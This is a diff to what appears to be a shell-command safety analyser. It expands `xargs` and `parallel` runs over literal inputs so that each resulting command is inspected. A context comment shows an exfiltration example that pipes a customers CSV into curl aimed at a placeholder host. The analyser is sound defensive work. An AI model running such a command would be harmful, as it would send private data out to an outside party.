@@ -122,13 +122,25 @@ def _xargs(call: _Call) -> None:
         call.args, values, attached_only=_options("-e", "-i", "-l"), first_operand_ends=True
     )
     inner = parsed.operands or [_Word.literal("echo")]
+    replace_strings = parsed.values("-I") + [
+        w.tail(2) for w in call.args if w.value.startswith("-I") and len(w.value) > 2
+    ]
+    items = _literal_items(call.feed, lines=bool(replace_strings))
+    if items is not None and not parsed.has("-0", "--null", "-d", "--delimiter", "-a"):
+        # `printf '%s\n' orders customers | xargs -I{} psql -c "... {}"`: each run is read
+        for item in items:
+            if replace_strings:
+                marker = replace_strings[-1].value
+                argv = [_Word.literal(word.value.replace(marker, item)) for word in inner]
+            else:
+                argv = [*inner, _Word.literal(item)]
+            call.analyzer.run_inner(call, argv, feed=None, transparent=True)
+        return
     # The words xargs places come from stdin: where those bytes come from goes with them
     # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
     origin = call.feed.origin if call.feed else _Origin.NONE
     source = call.feed.description if call.feed else ""
-    for replace_string in parsed.values("-I") + [
-        w.tail(2) for w in call.args if w.value.startswith("-I") and len(w.value) > 2
-    ]:
+    for replace_string in replace_strings:
         marker = replace_string.value
         inner = [
             _Word(
@@ -156,6 +168,24 @@ def _xargs(call: _Call) -> None:
     call.analyzer.run_inner(call, [*inner, appended], feed=None, transparent=True)
 
 
+# Input items are taken as they are written only when nothing in them is quoting or escaping
+# (xargs reads quotes and backslashes), and they are few: each is a run that is read.
+_PLAIN_ITEM = re.compile(r"[\w./:@%+,=-]+")
+_MOST_ITEMS = 8
+
+
+def _literal_items(feed: _Feed | None, *, lines: bool) -> list[str] | None:
+    """The items a literal input holds (lines for `-I`, else words), or None when the input is
+    not known statically or holds anything but a few plain words."""
+    if feed is None or feed.literal is None or feed.literal.dynamic or feed.origin:
+        return None
+    text = feed.literal.value
+    items = [line.strip() for line in text.splitlines() if line.strip()] if lines else text.split()
+    if not items or len(items) > _MOST_ITEMS:
+        return None
+    return items if all(_PLAIN_ITEM.fullmatch(item) for item in items) else None
+
+
 def _trap(call: _Call) -> None:
     """``trap 'CMD' EXIT``: CMD runs later, when the signal comes: analysed now."""
     operands = [w for w in call.args if not w.value.startswith("-")]
@@ -171,6 +201,16 @@ def _parallel(call: _Call) -> None:
         words[:split], _words("-j --jobs -S --sshlogin --joblog --delay"), first_operand_ends=True
     ).operands
     inputs = words[split + 1 :]
+    literal = [w.value for w in inputs if not w.dynamic and _PLAIN_ITEM.fullmatch(w.value)]
+    given = split < len(words) and words[split].value == ":::"  # not `::::` files of inputs
+    if command and given and inputs and len(literal) == len(inputs) <= _MOST_ITEMS:
+        # `parallel 'gsutil du -s gs://raw-{}/' ::: events clicks`: the command line is a
+        # shell script per input, {} replaced by it (or the input appended)
+        line = " ".join(word.value for word in command)
+        for item in literal:
+            run = line.replace("{}", item) if "{}" in line else f"{line} {item}"
+            _script(call, _Word.literal(run), "parallel")
+        return
     if command:
         appended = _Word(
             EXPANSION_PLACEHOLDER,
